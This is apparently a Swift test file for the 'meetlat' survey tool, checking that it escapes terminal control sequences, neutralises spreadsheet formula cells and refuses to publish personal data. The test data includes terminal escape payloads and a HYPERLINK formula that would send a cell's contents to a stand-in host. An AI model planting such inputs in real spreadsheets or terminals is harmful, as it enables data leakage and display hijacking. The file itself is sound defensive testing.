import Foundation
import Ingest
import MeetlatTestSupport
import Support
import TableFiles
import Testing

/// Issue 19 through the built binary: what a hostile export or configuration makes `meetlat` print
/// and write.
@Suite struct HostileInputTests {
    /// Item 9: a gemeente cell with a clear-screen sequence, a window-title (OSC) sequence, a bell
    /// and a carriage return is quoted by `ingest --strict`'s failure — shown, never executed.
    @Test func ingestStrictShowsControlCharactersInsteadOfSendingThem() throws {
        let survey = try GeneratedSurvey(samples: 16)
        let gemeente = "\u{1B}[2J\u{1B}]0;gehackt\u{07}Atlantis\r\u{9B}31m"
        let row = ["Jan", "", "", gemeente, "01-05-2012 10:00"] + GeneratedSurvey.channels.map { _ in "" }
            + ["1", "2", "3"] + GeneratedSurvey.purposes.map { _ in "Soms" } + [""]
        try survey.writeYear(2012, seed: 3, extraRows: [row])
        let ingest = try MeetlatBinary.run(survey.arguments(["ingest", "--strict"]), in: survey.root)
        #expect(ingest.status != 0)
        let printed = ingest.stdout + ingest.stderr
        #expect(ingest.stderr.contains(#"\u{1B}[2J\u{1B}]0;gehackt\u{7}Atlantis\r\u{9B}31m"#), "\(ingest.stderr)")
        for control in ["\u{1B}", "\u{07}", "\r", "\u{9B}"] {
            #expect(!printed.contains(control), "\(control.debugDescription) reached the terminal")
        }
        let report = try String(contentsOf: survey.reports.appendingPathComponent("2012/ingest-report.txt"), encoding: .utf8)
        #expect(!report.contains("\u{1B}"))
    }

    /// Item 9, the command line's own messages: a refused option value is quoted by the argument
    /// parser, shown the same way.
    @Test func aRefusedOptionValueIsShownNotSent() throws {
        let refused = try MeetlatBinary.run(["score", "--year", "20\u{1B}[2J\u{1B}]0;gehackt\u{07}12"], in: FileManager.default.temporaryDirectory)
        #expect(refused.status == 64)
        #expect(refused.stderr.contains(#"'20\u{1B}[2J\u{1B}]0;gehackt\u{7}12' is invalid for '--year <year>'"#), "\(refused.stderr)")
        #expect(!(refused.stdout + refused.stderr).contains("\u{1B}"))
        let help = try MeetlatBinary.run(["score", "--help"], in: FileManager.default.temporaryDirectory)
        #expect(help.status == 0 && help.stdout.contains("--year <year>"), "help still goes to standard output")
    }

    /// Item 8: rejects.csv keeps a respondent's `=HYPERLINK(…)`, `@SUM(…)` and `+31 …` as text
    /// for a spreadsheet; a plain negative number stays a number.
    @Test func rejectsHoldFormulaCellsAsText() throws {
        let survey = try GeneratedSurvey(samples: 16)
        let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")"
        let row = ["@SUM(1+1)", "+31 6 12345678", "-3", formula, "01-05-2012 10:00"] + GeneratedSurvey.channels.map { _ in "" }
            + ["-3", "2", "3"] + GeneratedSurvey.purposes.map { _ in "Soms" } + ["-2+3"]
        try survey.writeYear(2012, seed: 3, extraRows: [row])
        let ingest = try MeetlatBinary.run(survey.arguments(["ingest"]), in: survey.root)
        #expect(ingest.status == 0, "\(ingest.stderr)")
        var records: [[String]] = []
        _ = try CSVReader(url: survey.reports.appendingPathComponent("2012/rejects.csv")).read { records.append($0.fields) }
        let reject = try #require(records.first { $0.contains("'" + formula) })
        let cells = Array(reject.dropFirst(3))
        #expect(Array(cells.prefix(4)) == ["'@SUM(1+1)", "'+31 6 12345678", "-3", "'" + formula])
        #expect(cells.last == "'-2+3")
        #expect(cells.map(CSVWriter.originalCell) == row)
    }

    /// Item 16: a model label holding personal data would reach Rankings/ (committed, published).
    /// `meetlat score` scans what it is about to write, refuses, names file and redacted match,
    /// and writes nothing.
    @Test func scoreRefusesPersonalDataFromAModel() throws {
        let survey = try GeneratedSurvey(samples: 16)
        try survey.writeYear(2012, seed: 3)
        let model = survey.surveys.appendingPathComponent("models/meetlat-2012.yaml")
        let text = try String(contentsOf: model, encoding: .utf8)
        #expect(text.contains("label: Aanwezigheid\n"))
        try text.replacingOccurrences(of: "label: Aanwezigheid\n", with: "label: Aanwezigheid (vragen? bel Jan op 06-13572468)\n")
            .write(to: model, atomically: false, encoding: .utf8)
        let score = try MeetlatBinary.run(survey.arguments(["score"]), in: survey.root)
        #expect(score.status != 0)
        #expect(score.stderr.contains("\(survey.rankings.path)/2012.json:"))
        #expect(score.stderr.contains("phone number '06-******68' — refusing to publish"))
        #expect(score.stderr.contains("refusing to publish") && !score.stderr.contains("06-13572468"))
        #expect(!FileManager.default.fileExists(atPath: survey.rankings.appendingPathComponent("2012.csv").path))
        #expect(!FileManager.default.fileExists(atPath: survey.rankings.appendingPathComponent("2012.json").path))
    }
}
